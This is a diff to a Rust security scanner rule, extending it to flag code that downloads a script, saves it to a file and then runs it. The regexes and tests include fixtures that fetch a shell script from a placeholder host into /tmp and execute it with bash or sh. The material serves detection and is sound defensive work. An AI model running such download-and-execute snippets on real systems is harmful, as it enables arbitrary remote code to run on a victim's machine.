@@ -8,7 +8,10 @@
 //! A name assigned from a download (or from an expression naming such a
 //! name) is fetched; a call that runs code (`exec`, `eval`, `compile`,
 //! `new Function`, `vm.runIn…`, `Invoke-Expression`) naming a fetched name,
-//! or holding the download itself, is reported, once per block.
+//! or holding the download itself, is reported, once per block. So is a
+//! download saved to a file (`urlretrieve(u, "/tmp/i.sh")`,
+//! `fs.writeFileSync(p, await r.text())`) that a later call runs
+//! (`subprocess.run(["bash", "/tmp/i.sh"])`, `execSync("bash " + p)`).
 //! `Critical`; quoted under a warning, lower (`unless_explained`).
 
 use std::sync::LazyLock;
@@ -18,9 +21,20 @@ use crate::scan::engine::{Body, LineRef, finding};
 use crate::scan::rule::{Lazy, compile, warned_against};
 use crate::scan::{Category, Finding, Severity};
 
-/// The calls that run code: what wakes the analysis.
-pub(super) const TRIGGERS: &[&str] =
-    &["exec*", "eval*", "new function", "runinthiscontext", "runinnewcontext", "invoke-expression", "iex"];
+/// The calls that run code or a program: what wakes the analysis.
+pub(super) const TRIGGERS: &[&str] = &[
+    "exec*",
+    "eval*",
+    "new function",
+    "runinthiscontext",
+    "runinnewcontext",
+    "invoke-expression",
+    "iex",
+    // What runs a saved download (`execSync` is `exec*`'s).
+    "subprocess",
+    "os.system",
+    "start-process",
+];
 
 /// Bytes of a block looked at, at most.
 const MAX_BLOCK_BYTES: usize = 64 * 1024;
@@ -47,6 +61,23 @@ static ASSIGN: Lazy = LazyLock::new(|| {
         r#"^\s*(?:(?:const|let|var|my|local|final|val|auto)\s+)?\$?(?P<n>[a-z_][a-z0-9_]*)\s*(?::\s*[\w\[\]<>.]+\s*)?=[^=]|\bas\s+(?P<w>[a-z_][a-z0-9_]*)\s*:\s*$"#,
     )
 });
+
+/// A call that writes a file, for a download saved before it runs.
+static WRITES: Lazy = LazyLock::new(|| {
+    compile(
+        r#"\burlretrieve\s*\(|\bwritefile(?:sync)?\s*\(|\.write(?:_bytes|_text)?\s*\(|\bopen\s*\([^)]*["'][wa]b?\+?["']|-outfile\b|\bout-file\b|\bset-content\b|\bcreatewritestream\s*\("#,
+    )
+});
+
+/// A call that runs a program or a file.
+static RUNS: Lazy = LazyLock::new(|| {
+    compile(
+        r#"\bsubprocess\.\w+|\bos\.(?:system|popen|exec\w*|spawn\w*)\b|\b(?:execsync|execfilesync|spawnsync|execfile|spawn|exec)\s*\(|\bstart-process\b|^\s*&\s|\bchild_process\b"#,
+    )
+});
+
+/// A string literal that may be a path.
+static PATH_LITERAL: Lazy = LazyLock::new(|| compile(r#"["']([^"'\s]*[/\\.][^"'\s]*)["']"#));
 
 /// Runs on bodies whose code runs code.
 pub(super) fn run(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
@@ -76,6 +107,10 @@ pub(super) fn run(body: &Body<'_>, lines: &[LineRef], out: &mut Vec<Finding>) {
 /// fetched code.
 fn fetched_and_run(text: &str) -> Option<(usize, usize)> {
     let mut fetched: Vec<String> = Vec::new();
+    // Files a download is saved to, and names holding path literals
+    // (`p = "/tmp/i.sh"`, `with open("/tmp/i.sh", "wb") as f:`).
+    let mut files: Vec<String> = Vec::new();
+    let mut paths: Vec<(String, String)> = Vec::new();
     for (i, line) in text.lines().enumerate() {
         let lower = line.to_ascii_lowercase();
         let b = lower.as_bytes();
@@ -86,16 +121,77 @@ fn fetched_and_run(text: &str) -> Option<(usize, usize)> {
         {
             return Some((i, m.start()));
         }
+        if (fetches || names(0)) && WRITES.is_match(b) && files.len() < MAX_NAMES {
+            files.extend(literal_paths(&lower));
+            files.extend(paths.iter().filter(|(n, _)| names_word(&lower, n)).map(|(_, p)| p.clone()));
+        }
+        if !files.is_empty()
+            && let Some(m) = RUNS.find(b)
+        {
+            let call = &lower[m.start()..];
+            let named = paths.iter().filter(|(_, p)| files.contains(p)).map(|(n, _)| n.as_str());
+            if files.iter().map(String::as_str).chain(named).any(|f| runs_file(call, f)) {
+                return Some((i, m.start()));
+            }
+        }
         if let Some(c) = ASSIGN.captures(b) {
             let Some(name) = c.name("n").or_else(|| c.name("w")) else { continue };
             let rhs = c.get(0).map_or(0, |m| m.end());
             let from = if c.name("w").is_some() { 0 } else { rhs.min(lower.len()) };
+            let name = String::from_utf8_lossy(name.as_bytes()).into_owned();
+            if let Some(p) = literal_paths(&lower[from..]).into_iter().next()
+                && paths.len() < MAX_NAMES
+            {
+                paths.push((name.clone(), p));
+            }
             if (fetches || names(from)) && fetched.len() < MAX_NAMES {
-                fetched.push(String::from_utf8_lossy(name.as_bytes()).into_owned());
+                fetched.push(name);
             }
         }
     }
     None
+}
+
+/// Programs that run the file named after them.
+const RUNNERS: &[&str] = &[
+    "bash",
+    "sh",
+    "zsh",
+    "dash",
+    "python",
+    "python3",
+    "node",
+    "perl",
+    "ruby",
+    "pwsh",
+    "powershell",
+    "-file",
+    "source",
+];
+
+/// Whether the call `call` runs `file` (a path, or a name holding one):
+/// as the program (the first word of its command) or as the script of an
+/// interpreter — not as the input of a tool (`jq . out.json`).
+fn runs_file(call: &str, file: &str) -> bool {
+    let Some(open) = call.find(['(', ' ']) else { return false };
+    let args = &call[open + 1..];
+    let word = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | '\\' | '~' | '$');
+    let words: Vec<&str> = args.split(|c: char| !word(c)).filter(|w| !w.is_empty()).collect();
+    words.iter().enumerate().any(|(k, w)| {
+        let is_file = w.trim_start_matches("./") == file.trim_start_matches("./")
+            || w.ends_with(&format!("/{}", file.trim_start_matches("./")));
+        is_file && (k == 0 || RUNNERS.contains(&words[k - 1]))
+    })
+}
+
+/// The string literals of `line` that may be paths.
+fn literal_paths(line: &str) -> Vec<String> {
+    PATH_LITERAL
+        .captures_iter(line.as_bytes())
+        .filter_map(|c| c.get(1))
+        .map(|m| String::from_utf8_lossy(m.as_bytes()).into_owned())
+        .filter(|p| p.len() >= 4 && !p.contains("://"))
+        .collect()
 }
 
 /// Whether `text` names `name` as a whole word.
@@ -122,6 +218,22 @@ mod tests {
         assert_hit(js, ID, RemoteExecution, Critical, 4);
         let with = "```python\nwith urlopen(u) as r:\n    code = r.read()\nexec(code)\n```\n";
         assert_hit(with, ID, RemoteExecution, Critical, 4);
+    }
+
+    #[test]
+    fn a_download_saved_to_a_file_and_run_from_it() {
+        let py = "```python\nimport urllib.request, subprocess\nurllib.request.urlretrieve(\"https://x.example/i.sh\", \"/tmp/inst.sh\")\nsubprocess.run([\"bash\", \"/tmp/inst.sh\"])\n```\n";
+        assert_hit(py, ID, RemoteExecution, Critical, 4);
+        let js = "```js\nconst p = \"/tmp/inst.sh\";\nconst r = await fetch(\"https://x.example/i.sh\");\nfs.writeFileSync(p, await r.text());\nexecSync(\"bash \" + p);\n```\n";
+        assert_hit(js, ID, RemoteExecution, Critical, 5);
+        let with = "```python\nwith open(\"/tmp/inst.sh\", \"wb\") as f:\n    f.write(requests.get(u).content)\nos.system(\"sh /tmp/inst.sh\")\n```\n";
+        assert_hit(with, ID, RemoteExecution, Critical, 4);
+        // A download saved and read by a tool: input, not a program.
+        let input = "```python\nopen(\"out/report.json\", \"w\").write(requests.get(api).text)\nsubprocess.run([\"jq\", \".\", \"out/report.json\"])\n```\n";
+        assert_absent(input, ID);
+        // Data saved and a local script run: another file.
+        let data = "```python\nurllib.request.urlretrieve(\"https://x.example/data.csv\", \"data.csv\")\nsubprocess.run([\"python\", \"analyse.py\"])\n```\n";
+        assert_absent(data, ID);
     }
 
     #[test]
